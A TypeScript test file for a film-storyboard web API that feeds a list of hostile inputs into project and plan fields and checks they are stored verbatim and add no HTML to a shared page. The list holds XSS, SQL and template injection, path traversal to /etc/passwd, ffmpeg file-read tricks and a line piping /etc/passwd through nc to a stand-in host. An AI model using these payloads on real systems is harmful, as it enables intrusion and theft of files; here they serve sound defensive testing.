import { beforeAll, describe, expect, it } from 'vitest';
import { JobConfig } from '#domain/job-config';
import { call } from '../testing/api.ts';
import { type Estate, makeEstate } from '../testing/estate.ts';
import { createRandom, newSeed } from '../testing/random.ts';
import { sideBySide } from '../testing/side-by-side.ts';
import { testEnv } from '../testing/test-env.ts';

/** What text would have to be to become a program somewhere on its way: HTML, SQL, filters, playlists, paths. */
const HOSTILE = [
  '<script src="https://canary.example/x.js"></script>',
  '"><img src=x onerror=alert(1)>',
  '</title><meta http-equiv=refresh content="0;url=https://canary.example">',
  "'); DROP TABLE jobs; --",
  "' OR '1'='1",
  ['$', '{process.env.DATABASE_URL}'].join(''),
  '{{constructor.constructor("return process")()}}',
  '#EXTM3U\n#EXTINF:10,\nhttps://canary.example/a.ts',
  'ffconcat version 1.0\nfile /etc/passwd',
  "drawtext=textfile=/etc/passwd:x='0'",
  'concat:/etc/passwd|/etc/hosts',
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  'file:///etc/passwd',
  '$(curl https://canary.example)',
  '`id`; cat /etc/passwd | nc canary.example 1',
  '-i /etc/passwd -f null',
  '%00.mp4',
  'CON',
  '{\\an8}{\\p1}m 0 0 l 100 0{\\p0}',
  '1\n00:00:00,000 --> 99:00:00,000\nanother caption',
  'WEBVTT\n\nNOTE --> hidden',
  '\u202egpj.exe',
  '__proto__',
  '=HYPERLINK("https://canary.example")',
  '\r\nset-cookie: studio_refresh=rt_evil',
  '%s%s%s%n',
  '𝔘𝔫𝔦𝔠𝔬𝔡𝔢 ﷽ 🎬👩‍🚀',
];
const TEXTS = testEnv.SOAK === '1' ? 500 : HOSTILE.length;
/** Reading and drafting a storyboard costs the most. */
const PLAN_EVERY = testEnv.SOAK === '1' ? 1 : 7;
const seed = newSeed('hostile texts');

/** One of them as it is, or two in a sentence. */
function textOf(i: number): string {
  const random = createRandom(seed + i);
  const one = () => HOSTILE[Math.floor(random() * HOSTILE.length)] as string;
  return i < HOSTILE.length ? (HOSTILE[i] as string) : `${one()} and ${one()} ${i}`;
}

let estate: Estate;
beforeAll(async () => {
  estate = await makeEstate('writer', { isFinished: true });
});

const oneLine = (text: string) => text.replaceAll(/\s+/g, ' ').trim();
/** Its beginning, as long as a field may be; never half of a surrogate pair. */
const cut = (text: string, length: number) =>
  text
    .slice(0, length)
    .replace(/[\ud800-\udbff]$/, '')
    .trim();

describe('text that would be a program', () => {
  it(`is kept letter by letter wherever it is read again: ${TEXTS} of them`, {
    timeout: 900_000,
  }, async () => {
    const { token, jobId, plan } = estate;
    await sideBySide(TEXTS, 3, async (i) => {
      const text = textOf(i);
      const about = `seed ${seed}, text ${i}: ${text}`;
      const key = cut(`of ${text}`, 60);
      const project = await call('POST', '/api/v1/projects', {
        token,
        body: {
          name: cut(`x${oneLine(text)}`, 120),
          description: text,
          settings: { [key]: text },
        },
      });
      expect(project.status, `${about} ${project.text}`).toBe(201);
      const path = `/api/v1/projects/${project.json.id}`;
      const read = (await call('GET', path, { token })).json;
      expect(read, about).toMatchObject({ description: text, settings: { [key]: text } });

      if (i % PLAN_EVERY !== 0) return;
      const edited = structuredClone(plan);
      Object.assign(edited, { title: cut(oneLine(text), 100) || 'x', logline: oneLine(text) });
      edited.scenes[0].shots[0].subject = oneLine(text);
      edited.scenes[0].shots[0].lines = [{ id: 'lin_hostile', speaker: null, text: oneLine(text) }];
      const script = `The keeper climbs the stairs. ${oneLine(text)} The lamp goes out.`;
      const made = await call('POST', `${path}/plans`, {
        token,
        body: { script, config: JobConfig.parse({}) },
      });
      // A word of it may be none that a film may have; then it says so.
      expect([201, 422], `${about} ${made.text}`).toContain(made.status);
      if (made.status === 422) return;
      const stored = (await call('GET', `/api/v1/plans/${made.json.id}`, { token })).json;
      expect(stored.script, about).toBe(script);
      const change = { token, body: { plan: edited }, headers: { 'if-match': '*' } };
      const second = await call('PATCH', `/api/v1/plans/${made.json.id}`, change);
      expect([200, 422], `${about} ${second.text}`).toContain(second.status);
      if (second.status === 200) expect(second.json.plan, about).toEqual(edited);
    });
    expect((await call('GET', `/api/v1/jobs/${jobId}`, { token })).status).toBe(200);
  });

  it('adds no element to the page of a shared film', {
    timeout: 900_000,
  }, async () => {
    const { token, jobId } = estate;
    const share = (await call('GET', `/api/v1/jobs/${jobId}/share`, { token })).json.url;
    const entitle = async (title: string) => {
      const { status, text } = await call('PATCH', `/api/v1/jobs/${jobId}`, { token, body: { title } });
      expect(status, text).toBe(200);
      return (await call('GET', new URL(share).pathname)).text;
    };
    const tagsOf = (page: string) => page.match(/<\/?[a-z]+/g);
    const usual = tagsOf(await entitle('A film'));
    for (let i = 0; i < TEXTS; i++) {
      const title = cut(oneLine(textOf(i)), 100);
      const about = `seed ${seed}, text ${i}: ${title}`;
      const page = await entitle(title);
      expect(tagsOf(page), about).toEqual(usual);
    }
  });
});
